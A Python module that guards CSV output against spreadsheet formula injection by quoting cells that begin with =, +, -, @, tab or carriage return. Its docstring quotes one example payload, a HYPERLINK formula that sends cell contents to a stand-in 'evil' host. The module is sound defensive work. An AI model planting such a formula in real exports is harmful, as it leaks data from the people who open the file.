"""CSV that a spreadsheet opens as data, never as formulas: every CSV callqa writes goes through here.

A cell starting with = + - @ (or a tab or carriage return, which some spreadsheets skip before
reading one of those) is a formula to Excel, LibreOffice and Google Sheets: a quote or a review
note like `=HYPERLINK("http://evil/?"&A1)` would run on the auditor's machine. Such cells are
prefixed with a single quote (OWASP's advice), which spreadsheets show as text.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value, with a leading `'` when it is text a spreadsheet would read as a formula.
    Numbers stay numbers (a negative number is data, not a formula)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeDictWriter(csv.DictWriter):
    """csv.DictWriter whose rows are neutralised cell by cell (the header too)."""

    def writeheader(self) -> Any:
        return self.writer.writerow([safe_cell(f) for f in self.fieldnames])

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: safe_cell(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)


class SafeWriter:
    """csv.writer with every cell neutralised."""

    def __init__(self, stream: TextIO, **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
